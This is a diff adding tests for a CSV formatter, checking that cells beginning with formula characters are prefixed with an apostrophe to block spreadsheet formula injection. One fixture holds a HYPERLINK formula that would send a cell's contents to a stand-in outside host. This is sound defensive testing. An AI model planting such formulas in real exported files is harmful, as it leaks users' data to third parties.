@@ -70,3 +70,44 @@ it('a table longer than its sample', async () => {
   const long = Array.from({ length: 2500 }, (_, index): Row => [BigInt(index), 'x', index, null]);
   expect((await formatted('table', long)).split('\n')).toHaveLength(2503);
 });
+
+describe('csv of texts that a spreadsheet would compute', () => {
+  const formula = '=HYPERLINK("http://x.example/?"&A1)';
+  const odd: Result['columns'] = [
+    { name: '=1+1', type: 'string' },
+    { name: 'n', type: 'int' },
+    { name: 'f', type: 'float' },
+    { name: 'l', type: 'other' },
+  ] as Result['columns'];
+  const write = async (format: Format, texts: readonly string[]): Promise<string[]> => {
+    const all = texts.map((text): Row => [text, -5n, '-Infinity', text]);
+    let text = '';
+    for await (const piece of formatResult({ columns: odd, rows: batches(all) }, format)) text += piece;
+    return text.split('\r\n');
+  };
+
+  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\uff1d1+1'])(
+    'has an apostrophe before %j',
+    async (cell) => {
+      expect(await write('csv', [cell])).toEqual(["'=1+1,n,f,l", `'${cell},-5,-Infinity,'${cell}`, '']);
+    },
+  );
+
+  it('quotes what needs it around that', async () => {
+    expect((await write('csv', [formula]))[1]).toBe(
+      `"'${formula.replaceAll('"', '""')}",-5,-Infinity,"'${formula.replaceAll('"', '""')}"`,
+    );
+    expect(await write('csv', ['\rx'])).toEqual(["'=1+1,n,f,l", `"'\rx",-5,-Infinity,"'\rx"`, '']);
+  });
+
+  it('leaves other texts, numbers and times as they are', async () => {
+    expect((await write('csv', ['a=1', "'", '', ' x']))[1]).toBe('a=1,-5,-Infinity,a=1');
+    expect((await formatted('csv')).split('\r\n')[2]).toMatch(
+      /^2023-11-14T22:13:20\.000000000Z,.*,-5,false$/,
+    );
+  });
+
+  it('has them as they are where csv-raw is asked for', async () => {
+    expect(await write('csv-raw', ['=1+1'])).toEqual(['=1+1,n,f,l', '=1+1,-5,-Infinity,=1+1', '']);
+  });
+});
